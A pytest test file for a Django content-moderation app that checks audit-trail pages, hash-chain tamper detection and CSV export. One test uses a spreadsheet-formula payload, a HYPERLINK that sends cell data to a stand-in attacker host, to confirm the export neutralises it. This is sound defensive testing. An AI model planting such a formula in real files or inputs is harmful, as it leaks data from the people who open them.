"""Audit trails for moderators: per clip and per subject, chain verification, CSV export."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime

import pytest
from django.db import connection

from audit.chain import event_hash
from audit.models import AuditEvent
from moderation import services
from tests.audit_triggers import audit_triggers_disabled

pytestmark = pytest.mark.django_db


@pytest.fixture
def decided(clip, moderator):
    report = services.report_create(
        category="no_consent", description="Not her.", content_id=clip.content_id
    )
    services.report_note_add(report=report, author=moderator, text="Checked.")
    services.report_take_down(report=report, moderator=moderator, reason="No consent.")
    return report


def test_clip_trail_shows_the_chain_and_that_it_verifies(moderator_client, clip, decided):
    html = moderator_client.get(f"/moderation/clips/{clip.content_id}/audit/").content.decode()
    for action in ("report.created", "report.noted", "clip.taken_down", "report.taken_down"):
        assert action in html
    last = AuditEvent.objects.order_by("-seq").first()
    assert f"{last.prev_hash} → {last.hash}" in html
    assert "The whole audit chain verifies" in html
    assert f"/moderation/clips/{clip.content_id}/audit.csv" in html


def test_tampering_shows_the_first_bad_link(moderator_client, clip, decided):
    target = AuditEvent.objects.get(action="report.noted")
    with audit_triggers_disabled(), connection.cursor() as cursor:
        cursor.execute(
            "UPDATE audit_auditevent SET actor_label = %s WHERE seq = %s", ["mallory", target.seq]
        )
    for url in (
        f"/moderation/clips/{clip.content_id}/audit/",
        f"/moderation/subjects/{clip.subject_id}/audit/",
    ):
        html = moderator_client.get(url).content.decode()
        assert "verifies" not in html and "Chain does not verify" in html
        assert f"broken at event #{target.seq}" in html and "altered" in html


def _unguard(value: str) -> str:
    """Undo the export's spreadsheet guard: one leading apostrophe is removed."""
    return value[1:] if value.startswith("'") else value


def test_clip_trail_exports_as_csv_with_every_field(moderator_client, clip, decided):
    from django.db import transaction

    from audit.services import audit_record
    from core.actors import Actor

    # A name chosen to run as a formula in whatever spreadsheet a moderator opens the file in.
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with transaction.atomic():
        audit_record(actor=Actor.public(hostile), action="clip.noted", object_type="clip",
                     object_id=clip.id, subject_id=clip.subject_id)  # fmt: skip
    answer = moderator_client.get(f"/moderation/clips/{clip.content_id}/audit.csv")
    assert answer.status_code == 200 and answer["Content-Type"].startswith("text/csv")
    assert f"audit-clip-{clip.content_id}.csv" in answer["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(b"".join(answer.streaming_content).decode())))
    header = list(rows[0].keys())
    assert header == [
        "seq", "created_at", "actor_type", "actor_id", "actor_label", "action", "object_type",
        "object_id", "subject_id", "details", "prev_hash", "hash",
    ]  # fmt: skip
    assert [r["action"] for r in rows] == [
        "report.created",
        "report.noted",
        "clip.taken_down",
        "report.taken_down",
        "clip.noted",
    ]
    assert rows[-1]["actor_label"] == "'" + hostile  # shown as text, never run
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    events = {e.seq: e for e in AuditEvent.objects.all()}
    for guarded in rows:
        row = {k: _unguard(v) for k, v in guarded.items()}
        event = events[int(row["seq"])]
        assert (row["prev_hash"], row["hash"]) == (event.prev_hash, event.hash)
        # The file alone is enough to recompute every hash.
        recomputed = event_hash(
            prev_hash=row["prev_hash"],
            seq=int(row["seq"]),
            created_at=datetime.fromisoformat(row["created_at"]),
            actor_type=row["actor_type"],
            actor_id=row["actor_id"],
            actor_label=row["actor_label"],
            action=row["action"],
            object_type=row["object_type"],
            object_id=row["object_id"],
            subject_id=row["subject_id"],
            details=json.loads(row["details"]),
        )
        assert recomputed == row["hash"]


def test_subject_trail_page_and_csv(moderator_client, clip, decided):
    html = moderator_client.get(f"/moderation/subjects/{clip.subject_id}/audit/").content.decode()
    assert "report.taken_down" in html and "The whole audit chain verifies" in html
    answer = moderator_client.get(f"/moderation/subjects/{clip.subject_id}/audit.csv")
    rows = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode())))
    expected = AuditEvent.objects.filter(subject_id=str(clip.subject_id)).count()
    assert rows[0][0] == "seq" and len(rows) == expected + 1
    assert {row[8] for row in rows[1:]} == {str(clip.subject_id)}


def test_unknown_clip_or_subject_is_404(moderator_client):
    assert moderator_client.get("/moderation/clips/0000000000000000/audit/").status_code == 404
    subject = "00000000-0000-0000-0000-000000000000"
    assert moderator_client.get(f"/moderation/subjects/{subject}/audit.csv").status_code == 404
